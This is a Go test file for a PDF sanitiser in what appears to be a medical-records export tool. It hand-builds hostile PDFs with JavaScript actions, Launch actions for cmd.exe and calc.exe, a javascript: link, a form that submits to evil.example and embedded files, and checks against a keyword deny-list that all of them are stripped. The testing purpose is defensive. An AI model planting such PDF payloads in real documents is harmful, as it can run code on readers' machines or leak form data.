package export

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// RawPDF lets the external tests build hostile PDFs too.
var RawPDF = rawPDF

// rawPDF writes a one-page PDF by hand, the way hostile files are made:
// catalog and page take extra entries, and extra holds objects 6, 7, ...
// (a string starting with "stream:" becomes a stream of the rest). Objects
// 1-5 are the catalog, page tree, page, its content and a font.
func rawPDF(catalog, page string, extra ...string) []byte {
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R " + catalog + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R /Helv 5 0 R >> >> " + page + " >>",
		"stream:BT /F1 24 Tf 72 720 Td (Hostile test page) Tj ET",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
	}
	objs = append(objs, extra...)
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n", i+1)
		if data, ok := strings.CutPrefix(o, "stream:"); ok {
			dict := ""
			if d, rest, ok := strings.Cut(data, "|"); ok && strings.HasPrefix(d, "<<") {
				dict, data = strings.TrimSuffix(strings.TrimPrefix(d, "<<"), ">>"), rest
			}
			fmt.Fprintf(&b, "<< %s /Length %d >>\nstream\n%s\nendstream\n", dict, len(data), data)
		} else {
			b.WriteString(o + "\n")
		}
		b.WriteString("endobj\n")
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

func TestCleanPDF(t *testing.T) {
	setupPDFCPU()
	field := "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Jane Doe) /Rect [72 500 300 520] /P 3 0 R /AP << /N 8 0 R >> >>"
	ap := "stream:<< /Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /Helv 5 0 R >> >> >>|/Tx BMC BT /Helv 12 Tf 2 5 Td (Jane Doe) Tj ET EMC"
	tests := []struct {
		name          string
		catalog, page string
		extra         []string
		want          Removed
		unchanged     bool
	}{
		{name: "plain", unchanged: true},
		{name: "document JavaScript", catalog: "/Names << /JavaScript << /Names [(a) 6 0 R (b) 7 0 R] >> >>",
			extra: []string{"<< /S /JavaScript /JS (app.alert\\(1\\);) >>", "<< /S /JavaScript /JS 8 0 R >>", "stream:app.alert(2);"},
			want:  Removed{Scripts: 2}},
		{name: "open action script", catalog: "/OpenAction 6 0 R",
			extra: []string{"<< /Type /Action /S /JavaScript /JS (this.print\\(\\);) /Next << /S /Launch /F (calc.exe) >> >>"},
			want:  Removed{Scripts: 1, ActionsRemoved: 1}},
		{name: "open action to a page is dropped but not counted", catalog: "/OpenAction [3 0 R /Fit]"},
		{name: "page open action", page: "/AA << /O << /S /JavaScript /JS (1;) >> /C << /S /GoTo /D [3 0 R /Fit] >> >>",
			want: Removed{Scripts: 1}},
		{name: "catalog additional actions", catalog: "/AA << /WC << /S /JavaScript /JS (1;) >> /DP << /S /Launch /F (x.exe) >> >>",
			want: Removed{Scripts: 1, ActionsRemoved: 1}},
		{name: "launch link", page: "/Annots [6 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /Launch /Win << /F (cmd.exe) >> >> >>"},
			want:  Removed{ActionsRemoved: 1}},
		{name: "web link stays", page: "/Annots [6 0 R 7 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (https://example.org/a) >> >>",
				"<< /Type /Annot /Subtype /Link /Rect [72 500 300 520] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"},
			want: Removed{ActionsRemoved: 1}},
		{name: "outline actions and chains", catalog: "/Outlines 6 0 R",
			extra: []string{"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
				"<< /Title (Go) /Parent 6 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next [8 0 R << /S /Named /N /Print >> << /S /Named /N /NextPage >>] >> >>",
				"<< /S /GoToR /F (other.pdf) /D [0 /Fit] /Next << /S /JavaScript /JS (1;) >> >>"},
			want: Removed{Scripts: 1, ActionsRemoved: 2}},
		{name: "other outside actions", page: "/Annots [6 0 R 7 0 R 8 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (data.fdf) >> >>",
				"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToE /T << /R /C /N (x) >> >> >>",
				"<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /OP 0 /AN 8 0 R /R << /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /D (movie.mp4) /CT (video/mp4) >> >> >> >>"},
			want: Removed{ActionsRemoved: 3}},
		{name: "embedded files", catalog: "/Names << /EmbeddedFiles << /Names [(results.xlsx) 6 0 R] >> >>",
			extra: []string{"<< /Type /Filespec /F (results.xlsx) /UF (results.xlsx) /EF << /F 7 0 R >> >>", "stream:<< /Type /EmbeddedFile >>|hello"},
			want:  Removed{Attachments: []string{"results.xlsx"}}},
		{name: "file attachment annotation and its pop-up", page: "/Annots [6 0 R 9 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /FileAttachment /Rect [400 700 420 720] /FS 7 0 R /Popup 9 0 R >>",
				"<< /Type /Filespec /F (C:\\\\scans\\\\note.txt) /EF << /F 8 0 R >> >>", "stream:secret",
				"<< /Type /Annot /Subtype /Popup /Rect [400 600 500 700] /Parent 6 0 R >>"},
			want: Removed{Attachments: []string{"note.txt"}}},
		{name: "file attachment annotation a kept note replies to", page: "/Annots [6 0 R 9 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /FileAttachment /Rect [400 700 420 720] /FS 7 0 R >>",
				"<< /Type /Filespec /F (note.txt) /EF << /F 8 0 R >> >>", "stream:secret",
				"<< /Type /Annot /Subtype /Text /Rect [300 700 320 720] /Contents (see attachment) /IRT 6 0 R >>"},
			want: Removed{Attachments: []string{"note.txt"}}},
		{name: "associated file", catalog: "/AF [6 0 R]",
			extra: []string{"<< /Type /Filespec /F (invoice.xml) /AFRelationship /Data /EF << /F 7 0 R >> >>", "stream:<xml/>"},
			want:  Removed{Attachments: []string{"invoice.xml"}}},
		{name: "XFA form with a scripted field", catalog: "/AcroForm << /Fields [6 0 R 7 0 R] /XFA 9 0 R /DA (/Helv 0 Tf 0 g) >>", page: "/Annots [6 0 R 7 0 R]",
			extra: []string{strings.Replace(field, "/P 3 0 R", "/P 3 0 R /AA << /K << /S /JavaScript /JS (1;) >> >>", 1),
				"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 450 200 470] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>",
				ap, "stream:<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"></xdp:xdp>"},
			want: Removed{Scripts: 1, ActionsRemoved: 1, XFA: true, Fields: 2}},
		{name: "form fields become read-only", catalog: "/AcroForm << /Fields [6 0 R] /DA (/Helv 0 Tf 0 g) >>", page: "/Annots [6 0 R]",
			extra: []string{field, "<< >>", ap},
			want:  Removed{Fields: 1}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := rawPDF(tt.catalog, tt.page, tt.extra...)
			out, rm, err := cleanPDF(in)
			if err != nil {
				t.Fatalf("cleanPDF = %v", err)
			}
			if !equalRemoved(rm, tt.want) {
				t.Errorf("cleanPDF removed %+v, want %+v", rm, tt.want)
			}
			if tt.unchanged != bytes.Equal(in, out) {
				t.Errorf("cleanPDF changed the bytes: %v, want %v", !bytes.Equal(in, out), !tt.unchanged)
			}
			// Cleaning is idempotent: the result has nothing left to take.
			again, rm2, err := cleanPDF(out)
			if err != nil || rm2.Any() || !bytes.Equal(again, out) {
				t.Errorf("cleanPDF(cleaned) = %+v, %v, changed %v; want nothing removed and no change", rm2, err, !bytes.Equal(again, out))
			}
			for _, bad := range []string{"/JavaScript", "/JS", "/Launch", "/SubmitForm", "/GoToR", "/GoToE", "/ImportData", "/Rendition",
				"/EmbeddedFiles", "/FileAttachment", "/EF", "/AF", "/XFA", "/AA", "/OpenAction", "/Print", "javascript:"} {
				if bytes.Contains(out, []byte(bad+" ")) || bytes.Contains(out, []byte(bad+"(")) || bytes.Contains(out, []byte(bad+"<")) || bytes.Contains(out, []byte(bad+"/")) || bytes.Contains(out, []byte(bad+"[")) {
					t.Errorf("cleaned PDF still holds %s", bad)
				}
			}
		})
	}
}

func equalRemoved(a, b Removed) bool {
	return a.Scripts == b.Scripts && a.ActionsRemoved == b.ActionsRemoved && a.XFA == b.XFA && a.Fields == b.Fields &&
		slices.Equal(a.Attachments, b.Attachments)
}

func TestRemovedSentences(t *testing.T) {
	tests := []struct {
		rm   Removed
		want []string
	}{
		{Removed{}, nil},
		{Removed{Attachments: []string{"results.xlsx"}}, []string{"1 attached file was not included: results.xlsx. It is kept in the patient's records and can be provided on request."}},
		{Removed{Scripts: 2, Attachments: []string{"a", "b", "c", "d", "e", "f\x00g"}}, []string{
			"6 attached files were not included: a, b, c, d, e and 1 more. They are kept in the patient's records and can be provided on request.",
			"Scripts and automatic actions were removed."}},
		{Removed{ActionsRemoved: 1, XFA: true}, []string{"Scripts and automatic actions were removed.", "Its XFA form layer was removed; the form shows as its ordinary PDF pages."}},
	}
	for _, tt := range tests {
		if got := tt.rm.Sentences(); !slices.Equal(got, tt.want) {
			t.Errorf("%+v.Sentences() = %q, want %q", tt.rm, got, tt.want)
		}
	}
}

// A filled field without an appearance stream shows its value only when
// the viewer draws it: cleaning asks viewers to (/NeedAppearances).
func TestCleanPDFNeedAppearances(t *testing.T) {
	setupPDFCPU()
	tests := []struct {
		name, field string
		want        bool
	}{
		{"filled, no appearance", "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Jane Doe) /Rect [72 500 300 520] /P 3 0 R >>", true},
		{"empty, no appearance", "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 500 300 520] /P 3 0 R >>", false},
		{"filled parent, widget kid without appearance", "<< /FT /Tx /T (name) /V (Jane) /Kids [7 0 R] >>", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := rawPDF("/AcroForm << /Fields [6 0 R] /DA (/Helv 0 Tf 0 g) >>", "/Annots [7 0 R]", tt.field,
				"<< /Type /Annot /Subtype /Widget /Parent 6 0 R /Rect [72 400 300 420] /P 3 0 R >>")
			if !strings.Contains(tt.field, "/Kids") {
				in = rawPDF("/AcroForm << /Fields [6 0 R] /DA (/Helv 0 Tf 0 g) >>", "/Annots [6 0 R]", tt.field)
			}
			out, _, err := cleanPDF(in)
			if err != nil {
				t.Fatal(err)
			}
			ctx, err := readPDF(out)
			if err != nil {
				t.Fatal(err)
			}
			form, err := ctx.DereferenceDict(ctx.RootDict["AcroForm"])
			if err != nil || form == nil {
				t.Fatalf("no AcroForm: %v", err)
			}
			got := form.BooleanEntry("NeedAppearances")
			if (got != nil && *got) != tt.want {
				t.Errorf("NeedAppearances = %v, want %v", got, tt.want)
			}
		})
	}
}
